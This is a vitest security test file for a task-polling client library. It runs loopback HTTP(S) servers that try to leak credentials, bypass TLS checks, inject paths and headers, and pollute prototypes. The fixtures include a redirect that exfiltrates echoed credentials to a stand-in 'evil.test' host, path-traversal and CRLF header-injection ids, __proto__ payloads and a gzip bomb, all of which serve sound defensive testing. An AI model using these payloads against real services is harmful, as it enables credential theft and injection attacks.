/**
 * Security: canary credentials on every error path, ids that try to change the path, TLS verification
 * of the edge adapter, oversized and prototype-polluting bodies, and hostile Retry-After values.
 * Real loopback HTTP(S) servers that answer whatever the case needs, echoing what they received.
 */
import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { Agent as HttpsAgent, createServer as createHttpsServer, globalAgent, type ServerOptions } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { PassThrough } from 'node:stream';
import { gzipSync } from 'node:zlib';
import axios from 'axios';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  isTaskPollError,
  ResponseValidationError,
  TaskTimeoutError,
  waitForTask,
  type TaskAdapter,
} from '../../src/index.js';
import { parseRetryAfter } from '../../src/internal/http/errors.js';
import { MAX_PAUSE_MS } from '../../src/internal/pacing.js';
import { dgcSystemTasks } from '../../src/providers/dgc/index.js';
import { edgeLogDump } from '../../src/providers/edge/index.js';
import { guanceLogmine } from '../../src/providers/guance/index.js';
import { encodeWorkflowLogin, workflowTasks } from '../../src/providers/workflow/index.js';
import { hasOpenssl, makeTestPki, type TestPki } from '../helpers/mtls.js';
import { expectNoSecrets, fakeAxios, signal } from './helpers.js';

// --- canaries -----------------------------------------------------------------------------------

const CANARY = {
  guanceKey: 'tkn_CANARYgk7Q2mZ9xV4bN8wL',
  dgcToken: 'MIICANARYdt5R1wE3yU7iO0pA',
  dgcSecretKey: 'SKCANARYsk9T6hJ2kL4mN6bV',
  dgcSecurityToken: 'STCANARYst3F8gH1jK5lP7oI',
  wfPassword: 'PWCANARYpw2D7sA9qZ3xC5vB',
  wfToken: 'CKCANARYck4X6cV8bN1mQ3wE',
  wfSession: 'SSCANARYss1M3nB5vC7xZ9aS',
} as const;
const WF_USER = 'root';
/** Every secret, plus what the adapters derive from them and send (the login's Base64, signatures seen by the server). */
const secrets = new Set<string>([
  ...Object.values(CANARY),
  encodeWorkflowLogin(WF_USER, CANARY.wfPassword, 'json-array'),
  encodeWorkflowLogin(WF_USER, CANARY.wfPassword, 'colon'),
]);

const PROJECT = 'b384b9e9ab9b4ee8994c8633aabc9505';
const DGC_ID = '008aae2e675d3bcb01675d3c66f20000';
const GUANCE_ID = 'logminetaskchcbedk24lokg5cqfdb0';
const EDGE_ID = 'dumpMultiNodesLog.eca14a007f930e5689652a30';
const WF_TASK = 'f93dea90fc3a11ecac7e6da0662c195b';

// --- a programmable loopback server ---------------------------------------------------------------

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

interface TestServer {
  url: string;
  seen: Seen[];
  /** Sets how the next requests are answered. */
  handle(handler: (req: IncomingMessage, res: ServerResponse, seen: Seen) => void): void;
  close(): Promise<void>;
}

async function startServer(tls?: ServerOptions): Promise<TestServer> {
  const seen: Seen[] = [];
  const sockets = new Set<Socket>();
  let handler: (req: IncomingMessage, res: ServerResponse, seen: Seen) => void = (_req, res) => res.end();
  const onRequest = (req: IncomingMessage, res: ServerResponse): void => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const entry = {
        method: req.method ?? '',
        url: req.url ?? '',
        headers: req.headers,
        body: Buffer.concat(chunks).toString('utf8'),
      };
      seen.push(entry);
      // Whatever signs a request is a secret too: the server knows the signature, the test learns it here.
      const signature = /Signature=([0-9a-f]+)/.exec(String(req.headers.authorization ?? ''))?.[1];
      if (signature) secrets.add(signature);
      handler(req, res, entry);
    });
  };
  const server: Server = tls ? createHttpsServer(tls, onRequest) : createHttpServer(onRequest);
  server.on(tls ? 'secureConnection' : 'connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  server.on('tlsClientError', () => undefined);
  server.on('clientError', (_e, socket) => socket.destroy());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `${tls ? 'https' : 'http'}://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    handle(next) {
      handler = next;
    },
    async close() {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** Everything the server received from this request, as one string: what a hostile server echoes back. */
const dump = (seen: Seen): string => `${Object.values(seen.headers).join(' | ')} | ${seen.body} | ${seen.url}`;
const sendJson = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void => {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
};
const sendText = (res: ServerResponse, status: number, text: string, type = 'text/plain'): void => {
  res.writeHead(status, { 'content-type': type });
  res.end(text);
};

let http: TestServer;
const closers: (() => void)[] = [];
beforeAll(async () => {
  http = await startServer();
});
afterAll(async () => {
  await http.close();
});
afterEach(() => {
  for (const close of closers.splice(0)) close();
  http.seen.length = 0;
});

function track<T extends { close(): void }>(adapter: T): T {
  closers.push(() => adapter.close());
  return adapter;
}

// --- 1. canaries on every error path ----------------------------------------------------------------

/** The error answers every provider gets, in its own words, each echoing everything the server received. */
type Mode =
  | 'envelope-4xx'
  | 'envelope-2xx'
  | 'auth-refused'
  | 'not-found'
  | 'rate-limited'
  | 'failed-status'
  | 'text-500'
  | 'html-502'
  | 'malformed-200'
  | 'unexpected-200'
  | 'redirect'
  | 'reset'
  | 'hang';
const MODES: Mode[] = [
  'envelope-4xx',
  'envelope-2xx',
  'auth-refused',
  'not-found',
  'rate-limited',
  'failed-status',
  'text-500',
  'html-502',
  'malformed-200',
  'unexpected-200',
  'redirect',
  'reset',
  'hang',
];

/** Answers common to every provider; `undefined` for the provider-specific ones. */
function common(mode: Mode, req: IncomingMessage, res: ServerResponse, seen: Seen): boolean {
  const echoed = dump(seen);
  switch (mode) {
    case 'text-500':
      sendText(res, 500, `Internal error while handling ${echoed}`);
      return true;
    case 'html-502':
      sendText(res, 502, `<html><body><h1>502</h1><pre>${echoed}</pre></body></html>`, 'text/html');
      return true;
    case 'malformed-200':
      sendText(res, 200, `{"echo": "${echoed.replace(/"/g, "'")}`, 'application/json');
      return true;
    case 'unexpected-200':
      sendJson(res, 200, { unexpected: echoed, headers: seen.headers });
      return true;
    case 'redirect':
      res.writeHead(302, { location: `http://evil.test/steal?${encodeURIComponent(echoed)}` });
      res.end();
      return true;
    case 'reset':
      req.socket.destroy();
      return true;
    case 'hang':
      return true;
    default:
      return false;
  }
}

interface CanarySubject {
  name: string;
  /** The adapter and the calls around the wait, each run once per mode. */
  make(baseURL: string): {
    adapter: TaskAdapter<unknown, unknown>;
    ref: unknown;
    calls: ((s: AbortSignal) => Promise<unknown>)[];
    close(): void;
  };
  answer(mode: Mode, req: IncomingMessage, res: ServerResponse, seen: Seen): void;
}

const canarySubjects: CanarySubject[] = [
  {
    name: 'guance (API key)',
    make(baseURL) {
      const adapter = guanceLogmine({ baseURL, apiKey: CANARY.guanceKey, pacing: false, requestTimeoutMs: 100 });
      return {
        adapter,
        ref: GUANCE_ID,
        calls: [(s) => adapter.submit({ analysisField: 'message' }, { signal: s })],
        close: () => adapter.close(),
      };
    },
    answer(mode, req, res, seen) {
      if (common(mode, req, res, seen)) return;
      const echoed = dump(seen);
      const envelope = (code: number, errorCode: string) => ({
        code,
        content: { echo: echoed },
        errorCode,
        message: echoed,
        success: false,
        traceId: '1',
      });
      if (mode === 'envelope-4xx') sendJson(res, 400, envelope(400, 'ft.ParamError'));
      else if (mode === 'envelope-2xx') sendJson(res, 200, envelope(500, 'ft.InternalError'));
      else if (mode === 'auth-refused') sendJson(res, 403, envelope(403, 'ft.InvalidAPIKey'));
      else if (mode === 'not-found') sendJson(res, 404, envelope(404, ''));
      else if (mode === 'rate-limited')
        sendJson(res, 401, envelope(401, 'ft.TriggerApiAkCurrentLimiting'), { 'retry-after': '0' });
      else
        sendJson(res, 200, {
          code: 200,
          content: { taskStatus: 'failed', data: [], docCount: 0, echo: echoed },
          errorCode: '',
          message: echoed,
          success: true,
          traceId: '1',
        });
    },
  },
  ...(['token', 'aksk'] as const).map(
    (kind): CanarySubject => ({
      name: `dgc (${kind === 'token' ? 'IAM token' : 'AK/SK, security token, signature'})`,
      make(baseURL) {
        const auth =
          kind === 'token'
            ? { token: CANARY.dgcToken }
            : { accessKey: 'AKPUBLICID', secretKey: CANARY.dgcSecretKey, securityToken: CANARY.dgcSecurityToken };
        const adapter = dgcSystemTasks({
          endpoint: baseURL,
          projectId: PROJECT,
          auth,
          pacing: false,
          requestTimeoutMs: 100,
        });
        return {
          adapter,
          ref: DGC_ID,
          calls: [(s) => adapter.importJobs({ path: 'obs://bucket/jobs.zip' }, { signal: s })],
          close: () => adapter.close(),
        };
      },
      answer(mode, req, res, seen) {
        if (common(mode, req, res, seen)) return;
        const echoed = dump(seen);
        const envelope = (code: string) => ({ error_code: code, error_msg: echoed });
        if (mode === 'envelope-4xx') sendJson(res, 400, envelope('DLF.1234'));
        else if (mode === 'envelope-2xx') sendJson(res, 200, envelope('DLF.3051'));
        else if (mode === 'auth-refused') sendJson(res, 401, envelope('APIG.0301'));
        else if (mode === 'not-found') sendJson(res, 404, envelope('DLF.0810'));
        else if (mode === 'rate-limited') sendJson(res, 429, envelope('APIG.0308'), { 'retry-after': '0' });
        else
          sendJson(res, 200, {
            id: DGC_ID,
            name: echoed,
            status: 'FAILED',
            message: echoed,
            subtasks: [{ id: 's1', name: echoed, status: 'FAILED', message: echoed }],
          });
      },
    }),
  ),
  ...(['token', 'credentials'] as const).map(
    (kind): CanarySubject => ({
      name: `workflow (${kind === 'token' ? 'cookie token' : 'password, login, session cookie'})`,
      make(baseURL) {
        const auth =
          kind === 'token'
            ? { token: CANARY.wfToken }
            : {
                credentials: {
                  username: WF_USER,
                  password: CANARY.wfPassword,
                  graphAddress: '127.0.0.1',
                  graphPort: 9669,
                },
              };
        const adapter = workflowTasks({ baseURL, ...auth, pacing: false, requestTimeoutMs: 100 });
        const ref = { jobId: 1, taskId: WF_TASK };
        return {
          adapter,
          ref,
          calls: [
            (s) => adapter.runJob('42', { query_1: { limit: 1 } }, { signal: s }),
            (s) => adapter.getJob(1, { signal: s }),
            (s) => adapter.cancelJob(1, { signal: s }),
            (s) => adapter.sampleResult(ref, { signal: s }),
          ],
          close: () => adapter.close(),
        };
      },
      answer(mode, req, res, seen) {
        // The login itself works (so that every mode reaches the calls), except in the modes about it.
        if (seen.url.startsWith('/api-open/v1/connect') && mode !== 'auth-refused' && mode !== 'envelope-4xx') {
          sendJson(
            res,
            200,
            { code: 0, data: { success: true }, message: 'Success' },
            { 'set-cookie': `explorer_token=${CANARY.wfSession}; Path=/; HttpOnly` },
          );
          return;
        }
        if (common(mode, req, res, seen)) return;
        const echoed = dump(seen);
        const envelope = (code: number) => ({ code, message: echoed, data: echoed });
        if (mode === 'envelope-4xx') sendJson(res, 400, envelope(40004000));
        else if (mode === 'envelope-2xx') sendJson(res, 200, envelope(50004003));
        else if (mode === 'auth-refused') sendJson(res, 401, envelope(40104000));
        else if (mode === 'not-found') sendJson(res, 404, envelope(40404000));
        else if (mode === 'rate-limited') sendJson(res, 500, envelope(50004000), { 'retry-after': '0' });
        else {
          const failed = {
            id: 1,
            name: echoed,
            workflowId: echoed,
            workflowName: echoed,
            status: 3,
            tasks: [{ id: WF_TASK, name: echoed, status: 3 }],
          };
          sendJson(res, 200, {
            code: 0,
            data: seen.url.includes('/cancel')
              ? { success: false }
              : seen.url.includes('sample_result')
                ? { items: [[echoed]] }
                : failed,
            message: echoed,
          });
        }
      },
    }),
  ),
];

const QUICK = {
  timeoutMs: 1500,
  requestTimeoutMs: 100,
  initialDelayMs: 1,
  maxDelayMs: 5,
  retry: { retries: 1, minDelayMs: 1, maxDelayMs: 1 },
} as const;

/** Runs the wait (with cancelOnAbort, so a timeout also tries the cancel) and every call; returns what each threw. */
async function errorsOf(made: ReturnType<CanarySubject['make']>): Promise<unknown[]> {
  const errors: unknown[] = [];
  await waitForTask(made.adapter, made.ref, { ...QUICK, cancelOnAbort: true, cancelTimeoutMs: 200 }).catch(
    (e: unknown) => errors.push(e),
  );
  for (const call of made.calls) {
    const controller = new AbortController();
    const timer = setTimeout(() => controller.abort(new Error('test gave up')), 1000);
    await call(controller.signal).catch((e: unknown) => errors.push(e));
    clearTimeout(timer);
  }
  return errors;
}

describe('canary credentials never show in any error', () => {
  describe.each(canarySubjects)('$name', (subject) => {
    it.each(MODES)('%s: message, stack, toJSON, inspect and the cause chain are clean', async (mode) => {
      http.handle((req, res, seen) => subject.answer(mode, req, res, seen));
      const made = subject.make(http.url);
      closers.push(made.close);
      const errors = await errorsOf(made);
      expect(errors.length).toBeGreaterThan(0);
      for (const error of errors) {
        expect(isTaskPollError(error) || (error as Error).message === 'test gave up', String(error)).toBe(true);
        expectNoSecrets(error, [...secrets]);
      }
      // The server really did receive the credentials it could echo (except in the network modes).
      if (http.seen.length > 0) expect(http.seen.some((s) => [...secrets].some((x) => dump(s).includes(x)))).toBe(true);
    });

    it('connection refused (axios reports it with the whole request config, headers included): clean', async () => {
      const made = subject.make('http://127.0.0.1:1');
      closers.push(made.close);
      const errors = await errorsOf(made);
      expect(errors.length).toBeGreaterThan(0);
      for (const error of errors) {
        expect(error).toMatchObject({ code: expect.stringMatching(/NETWORK_ERROR|TASK_TIMEOUT/) });
        expectNoSecrets(error, [...secrets]);
      }
    });
  });
});

// --- edge: the TLS key and its passphrase -----------------------------------------------------------

const openssl = hasOpenssl();
describe.skipIf(!openssl)('edge: the TLS client key and its passphrase never show in any error', () => {
  let pki: TestPki;
  let tlsServer: TestServer;
  let rogueServer: TestServer;
  let keySecrets: string[];
  beforeAll(async () => {
    pki = makeTestPki();
    // The base64 lines of both key forms, and the passphrase.
    const lines = (pem: string) => pem.split('\n').filter((l) => l.length >= 40 && !l.startsWith('-----'));
    keySecrets = [...lines(pki.client.key), ...lines(pki.encryptedClientKey), pki.passphrase];
    tlsServer = await startServer({
      key: pki.server.key,
      cert: pki.server.cert,
      ca: [pki.platformCa],
      requestCert: true,
      rejectUnauthorized: true,
    });
    rogueServer = await startServer({ key: pki.rogueServer.key, cert: pki.rogueServer.cert });
  });
  afterAll(async () => {
    await tlsServer?.close();
    await rogueServer?.close();
    pki?.dispose();
  });

  const make = (baseURL: string, maxDownloadBytes?: number) =>
    track(
      edgeLogDump({
        baseURL,
        tls: { cert: pki.client.cert, key: pki.encryptedClientKey, passphrase: pki.passphrase, ca: pki.mefCa },
        pacing: false,
        requestTimeoutMs: 100,
        ...(maxDownloadBytes === undefined ? {} : { maxDownloadBytes }),
      }),
    );
  const finished = {
    provider: 'edge.logDump',
    taskId: EDGE_ID,
    state: 'succeeded' as const,
    terminal: true,
    providerState: 'succeed',
    raw: {},
    result: { fileName: 'edgeNodes.tar.gz' },
  };
  const allErrors = async (edge: ReturnType<typeof make>): Promise<unknown[]> => {
    const errors: unknown[] = [];
    await waitForTask(edge, EDGE_ID, QUICK).catch((e: unknown) => errors.push(e));
    await edge.submit({ edgeNodes: [1] }).catch((e: unknown) => errors.push(e));
    await edge.download(finished, new PassThrough().resume()).catch((e: unknown) => errors.push(e));
    return errors;
  };

  it.each<[string, (req: IncomingMessage, res: ServerResponse, seen: Seen) => void]>([
    ['reset', (req) => req.socket.destroy()],
    ['hang', () => undefined],
    ['500', (_req, res, seen) => sendText(res, 500, dump(seen))],
    ['400 envelope', (_req, res, seen) => sendJson(res, 400, { status: '40052002', msg: dump(seen), data: null })],
    [
      'a download cut midway',
      (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': '100000' });
        res.write(Buffer.alloc(1000));
        setTimeout(() => res.socket?.destroy(), 10);
      },
    ],
  ])('over mutual TLS, %s: clean', async (_name, handler) => {
    tlsServer.handle(handler);
    const errors = await allErrors(make(tlsServer.url));
    expect(errors).toHaveLength(3);
    for (const error of errors) expectNoSecrets(error, keySecrets);
  });

  it('a download over the size limit, connection refused, and a server from the wrong CA: clean', async () => {
    tlsServer.handle((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      res.end(Buffer.alloc(50_000));
    });
    const errors = [
      ...(await allErrors(make(tlsServer.url, 1000))),
      ...(await allErrors(make('https://127.0.0.1:1'))),
      ...(await allErrors(make(rogueServer.url))),
    ];
    expect(errors.length).toBeGreaterThanOrEqual(6);
    for (const error of errors) expectNoSecrets(error, keySecrets);
  });

  it('TLS cannot be turned off by accident: an insecure axios instance, an insecure global agent, or no tls at all still verify the server', async () => {
    // The caller's axios defaults to an agent that trusts anyone; with `tls` the adapter's own agent is used.
    const insecure = new HttpsAgent({ rejectUnauthorized: false });
    closers.push(() => insecure.destroy());
    const viaInsecureAxios = track(
      edgeLogDump({
        baseURL: rogueServer.url,
        tls: { cert: pki.client.cert, key: pki.client.key, ca: pki.mefCa },
        axios: axios.create({ httpsAgent: insecure }),
        pacing: false,
      }),
    );
    await expect(viaInsecureAxios.getStatus(EDGE_ID, { signal: signal() })).rejects.toMatchObject({
      code: 'NETWORK_ERROR',
      transient: false,
      message: expect.stringMatching(/not trusted/),
    });
    // Someone turned verification off process-wide on the global agent: not ours.
    const before = globalAgent.options.rejectUnauthorized;
    globalAgent.options.rejectUnauthorized = false;
    try {
      const viaGlobal = make(rogueServer.url);
      await expect(viaGlobal.getStatus(EDGE_ID, { signal: signal() })).rejects.toMatchObject({
        code: 'NETWORK_ERROR',
        message: expect.stringMatching(/not trusted/),
      });
      // An https baseURL without tls: the system's CAs, verified all the same (and a loopback test CA is not among them).
      const noTls = track(edgeLogDump({ baseURL: tlsServer.url, pacing: false }));
      await expect(noTls.getStatus(EDGE_ID, { signal: signal() })).rejects.toMatchObject({
        code: 'NETWORK_ERROR',
        message: expect.stringMatching(/not trusted/),
      });
    } finally {
      globalAgent.options.rejectUnauthorized = before;
    }
  });
});

// --- 2. ids that try to change the path ------------------------------------------------------------

const HOSTILE_IDS = [
  '../../admin',
  '..',
  '.',
  'a/b',
  'a?admin=1',
  'a#frag',
  '100%',
  '%2e%2e%2f',
  'a\r\nX-Injected: 1',
  'a\nb',
  'a\u0000b',
  'a b',
  'x'.repeat(300),
  'x'.repeat(5000),
  '',
];

describe('hostile ids: rejected before any request, or encoded so the server sees exactly the id in one segment', () => {
  beforeAll(() => {
    http.handle((_req, res) => sendJson(res, 404, { not: 'found' }));
  });

  /** For each request the server got: the path must be `prefix + encodeURIComponent(id) + suffix`. */
  function expectOnePathSegment(id: string, prefix: string, suffix = ''): void {
    for (const seen of http.seen) {
      const path = seen.url.split('?')[0] as string;
      expect(path.startsWith(prefix), path).toBe(true);
      const segment = path.slice(prefix.length, path.length - suffix.length);
      expect(segment).not.toMatch(/[/?#]/);
      expect(decodeURIComponent(segment)).toBe(id);
    }
  }

  /** Calls `run`; it must throw a TypeError/RangeError at once (nothing sent) or send only well-formed requests. */
  async function attempt(run: () => unknown, check: () => void): Promise<'refused' | 'encoded'> {
    http.seen.length = 0;
    try {
      await run();
    } catch (error) {
      if (error instanceof TypeError || error instanceof RangeError) {
        expect(http.seen).toEqual([]);
        expect((error as Error).message).not.toContain('X-Injected');
        return 'refused';
      }
      expect(isTaskPollError(error), String(error)).toBe(true);
    }
    check();
    return 'encoded';
  }

  it.each(HOSTILE_IDS)('guance task id %j', async (id) => {
    const guance = track(guanceLogmine({ baseURL: http.url, apiKey: 'tkn_x', pacing: false }));
    await attempt(
      () => waitForTask(guance, id, QUICK),
      () => {
        for (const seen of http.seen) {
          const url = new URL(seen.url, http.url);
          expect(url.pathname).toBe('/api/v1/logmine/query_task');
          expect([...url.searchParams.keys()]).toEqual(['taskId']);
          expect(url.searchParams.get('taskId')).toBe(id);
        }
      },
    );
  });

  it.each(HOSTILE_IDS)('edge task id %j (a strict pattern: always refused)', async (id) => {
    const edge = track(edgeLogDump({ baseURL: http.url, pacing: false }));
    expect(
      await attempt(
        () => waitForTask(edge, id, QUICK),
        () => undefined,
      ),
    ).toBe('refused');
    expect(
      await attempt(
        () => edge.download(id, new PassThrough()),
        () => undefined,
      ),
    ).toBe('refused');
  });

  it.each(HOSTILE_IDS)('dgc task id %j, and as project id', async (id) => {
    const dgc = track(
      dgcSystemTasks({ endpoint: http.url, projectId: PROJECT, auth: { token: 'MIIx' }, pacing: false }),
    );
    await attempt(
      () => waitForTask(dgc, id, QUICK),
      () => expectOnePathSegment(id, `/v1/${PROJECT}/system-tasks/`),
    );
    expect(
      await attempt(
        () => dgcSystemTasks({ endpoint: http.url, projectId: id, auth: { token: 'MIIx' } }),
        () => undefined,
      ),
    ).toBe('refused');
  });

  it.each(HOSTILE_IDS)('workflow job id, task id and workflow id %j', async (id) => {
    const workflow = track(workflowTasks({ baseURL: http.url, token: 'tok', pacing: false }));
    expect(
      await attempt(
        () => waitForTask(workflow, { jobId: id, taskId: WF_TASK }, QUICK),
        () => undefined,
      ),
    ).toBe('refused');
    expect(
      await attempt(
        () => workflow.getJob(id),
        () => undefined,
      ),
    ).toBe('refused');
    await attempt(
      () => waitForTask(workflow, { jobId: 1, taskId: id }, QUICK),
      () => expectOnePathSegment('1', '/api-open/v1/jobs/'),
    );
    await attempt(
      () => workflow.sampleResult({ jobId: 1, taskId: id }),
      () => expectOnePathSegment(id, '/api-open/v1/jobs/1/tasks/', '/sample_result'),
    );
    await attempt(
      () => workflow.runJob(id),
      () => expectOnePathSegment(id, '/api-open/v1/workflows/', '/jobs'),
    );
  });

  it('credentials and header values with CR/LF or NUL are refused before any request, and not echoed', () => {
    const bad = 'abc\r\nX-Injected: 1';
    const attempts: (() => unknown)[] = [
      () => guanceLogmine({ baseURL: http.url, apiKey: bad }),
      () => dgcSystemTasks({ endpoint: http.url, projectId: PROJECT, auth: { token: bad } }),
      () => dgcSystemTasks({ endpoint: http.url, projectId: PROJECT, auth: { accessKey: bad, secretKey: 'sk' } }),
      () =>
        dgcSystemTasks({
          endpoint: http.url,
          projectId: PROJECT,
          auth: { accessKey: 'AK', secretKey: 'sk', securityToken: bad },
        }),
      () => dgcSystemTasks({ endpoint: http.url, projectId: PROJECT, workspace: bad, auth: { token: 'MIIx' } }),
      () => workflowTasks({ baseURL: http.url, token: bad }),
      () => workflowTasks({ baseURL: http.url, token: 'ok', tokenHeader: 'X-A\r\nX-B' }),
      () =>
        workflowTasks({
          baseURL: http.url,
          credentials: { username: 'u', password: 'p', graphAddress: 'g', graphPort: 9669 },
          tokenHeader: 'X\u0000',
        }),
    ];
    for (const run of attempts) {
      let thrown: unknown;
      try {
        run();
      } catch (error) {
        thrown = error;
      }
      expect(thrown instanceof TypeError || thrown instanceof RangeError, String(thrown)).toBe(true);
      expect((thrown as Error).message).not.toContain('X-Injected');
    }
    expect(http.seen).toEqual([]);
  });
});

// --- 3. bodies: size cap, prototype keys ---------------------------------------------------------------

interface BodySubject {
  name: string;
  make(baseURL: string): TaskAdapter<unknown, unknown> & { close(): void };
  ref: unknown;
  /** A finished, successful answer, with `extra` keys merged in at every object level. */
  success(extra: Record<string, unknown>, url: string): unknown;
}

/** `extra` added to every plain object of `value`, as raw JSON text (so "__proto__" stays a key). */
function withKeysEverywhere(value: unknown, extra: string): string {
  if (Array.isArray(value)) return `[${value.map((v) => withKeysEverywhere(v, extra)).join(',')}]`;
  if (typeof value === 'object' && value !== null) {
    const inner = Object.entries(value).map(([k, v]) => `${JSON.stringify(k)}:${withKeysEverywhere(v, extra)}`);
    return `{${[extra, ...inner].join(',')}}`;
  }
  return JSON.stringify(value);
}

const bodySubjects: BodySubject[] = [
  {
    name: 'guance',
    make: (baseURL) => guanceLogmine({ baseURL, apiKey: 'tkn_x', pacing: false }),
    ref: GUANCE_ID,
    success: () => ({
      code: 200,
      content: { data: [{ count: 1, docids: ['L_1'], message: 'm' }], docCount: 1, taskStatus: 'ok' },
      errorCode: '',
      message: '',
      success: true,
      traceId: '1',
    }),
  },
  {
    name: 'edge',
    make: (baseURL) => edgeLogDump({ baseURL, pacing: false }),
    ref: EDGE_ID,
    success: () => ({
      status: '00000000',
      msg: 'success',
      data: { status: 'succeed', progress: 100, taskId: EDGE_ID, data: { fileName: 'edgeNodes.tar.gz' } },
    }),
  },
  {
    name: 'dgc',
    make: (baseURL) =>
      dgcSystemTasks({ endpoint: baseURL, projectId: PROJECT, auth: { token: 'MIIx' }, pacing: false }),
    ref: DGC_ID,
    success: () => ({
      id: DGC_ID,
      name: 'import',
      status: 'SUCCESSFUL',
      subtasks: [{ id: 's1', name: 'job', status: 'SUCCESSFUL' }],
    }),
  },
  {
    name: 'workflow',
    make: (baseURL) => workflowTasks({ baseURL, token: 'tok', pacing: false }),
    ref: { jobId: 1, taskId: WF_TASK },
    success: (_extra, url) =>
      url.includes('sample_result')
        ? { code: 0, data: { items: [['player1', '0.5']] }, message: 'Success' }
        : { code: 0, data: { id: 1, status: 2, tasks: [{ id: WF_TASK, name: 'BFS', status: 2 }] }, message: 'Success' },
  },
];

describe('response bodies: the size cap and prototype keys', () => {
  const CAP = 10 * 1024 * 1024;

  it.each(bodySubjects)(
    '$name: a body over the 10 MiB cap (with a length, chunked, or a small gzip that inflates past it) is refused, not retried',
    async (subject) => {
      const adapter = track(subject.make(http.url));
      const padding = (n: number) => JSON.stringify({ pad: 'x'.repeat(n) });
      const cases: ((res: ServerResponse) => void)[] = [
        (res) => sendText(res, 200, padding(CAP + 10), 'application/json'),
        (res) => {
          res.writeHead(200, { 'content-type': 'application/json' }); // chunked: no content-length
          for (let i = 0; i < 11; i += 1) res.write('x'.repeat(1024 * 1024));
          res.end();
        },
        (res) => {
          const bomb = gzipSync(Buffer.from(padding(CAP * 3)));
          expect(bomb.length).toBeLessThan(100 * 1024);
          res.writeHead(200, {
            'content-type': 'application/json',
            'content-encoding': 'gzip',
            'content-length': String(bomb.length),
          });
          res.end(bomb);
        },
      ];
      for (const answer of cases) {
        http.seen.length = 0;
        http.handle((_req, res) => answer(res));
        const error = await waitForTask(adapter, subject.ref, {
          ...QUICK,
          timeoutMs: 20_000,
          requestTimeoutMs: 10_000,
        }).catch((e: unknown) => e);
        expect(error).toBeInstanceOf(ResponseValidationError);
        expect((error as Error).message).toMatch(/size limit/);
        expect(http.seen).toHaveLength(1);
      }
    },
  );

  it.each(bodySubjects)(
    '$name: __proto__ and constructor keys at every level of a good answer pollute nothing',
    async (subject) => {
      const adapter = track(subject.make(http.url));
      const extra = '"__proto__":{"polluted":"yes","toString":"no"},"constructor":{"prototype":{"polluted2":"yes"}}';
      http.handle((_req, res, seen) =>
        sendText(res, 200, withKeysEverywhere(subject.success({}, seen.url), extra), 'application/json'),
      );
      const done = await waitForTask(adapter, subject.ref, QUICK);
      expect(done.state).toBe('succeeded');
      const probe: Record<string, unknown> = {};
      expect(probe['polluted']).toBeUndefined();
      expect(probe['polluted2']).toBeUndefined();
      expect(Object.prototype.toString.call(probe)).toBe('[object Object]');
      expect(Object.keys(Object.prototype)).toEqual([]);
      // Nothing the wait returned has a borrowed prototype.
      const visit = (value: unknown, depth = 0): void => {
        if (depth > 12 || typeof value !== 'object' || value === null) return;
        const proto = Object.getPrototypeOf(value) as unknown;
        expect([Object.prototype, Array.prototype, Date.prototype, null]).toContain(proto);
        expect(Object.hasOwn(value, '__proto__')).toBe(false);
        for (const item of Object.values(value)) visit(item, depth + 1);
      };
      visit(done);
    },
  );
});

// --- 4. Retry-After: huge, negative, garbage ------------------------------------------------------------

describe('Retry-After: huge, negative or garbage values are clamped or ignored', () => {
  it.each([
    ['99999999999', 2_147_483_647],
    ['1e9', undefined],
    ['-5', undefined],
    ['-0', undefined],
    ['NaN', undefined],
    ['Infinity', undefined],
    ['0x10', undefined],
    ['soon', undefined],
    ['', undefined],
    ['  7  ', 7000],
    ['3.5', 3500],
    ['Fri, 31 Dec 9999 23:59:59 GMT', 2_147_483_647],
    ['Thu, 01 Jan 1970 00:00:00 GMT', 0],
    ['Mon, 32 Foo 2024 99:99:99 GMT', undefined],
  ] as const)('parseRetryAfter(%j) = %j (0 to 2^31-1 ms, or unusable)', (value, expected) => {
    expect(parseRetryAfter(value)).toBe(expected);
  });

  it.each(bodySubjects)('$name: a 429 asking for years does not hold the wait past its deadline', async (subject) => {
    const adapter = track(subject.make(http.url));
    http.handle((_req, res) => {
      res.writeHead(429, { 'retry-after': '99999999999', 'content-type': 'text/plain' });
      res.end('slow down');
    });
    const start = Date.now();
    const error = await waitForTask(adapter, subject.ref, { ...QUICK, timeoutMs: 300 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TaskTimeoutError);
    expect(Date.now() - start).toBeLessThan(300 + 500);
    expect(http.seen).toHaveLength(1);
  });

  it('one answer asking for years does not freeze the adapter: its shared pause is at most 5 minutes, and the next wait runs (fake time)', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date', 'performance'] });
    try {
      let calls = 0;
      const axios = fakeAxios(() => {
        calls += 1;
        if (calls === 1)
          return {
            status: 429,
            body: 'slow down',
            headers: { 'retry-after': '99999999999', 'content-type': 'text/plain' },
          };
        return { status: 200, body: JSON.stringify(bodySubjects[0]!.success({}, '')) };
      });
      // The default pacing (20 per 60 s) is on: the pause is the pacer's.
      const guance = track(guanceLogmine({ baseURL: 'http://guance.test', apiKey: 'tkn_x', axios }));
      const first = waitForTask(guance, GUANCE_ID, { timeoutMs: 1000, retry: { retries: 1 } }).catch((e: unknown) => e);
      await vi.advanceTimersByTimeAsync(1000);
      expect(await first).toBeInstanceOf(TaskTimeoutError);
      const started = Date.now();
      let done: { state: string } | undefined;
      let endedAfterMs = -1;
      void waitForTask(guance, GUANCE_ID, { timeoutMs: 3_600_000 }).then((status) => {
        done = status;
        endedAfterMs = Date.now() - started;
      });
      await vi.advanceTimersByTimeAsync(MAX_PAUSE_MS);
      expect(done?.state).toBe('succeeded');
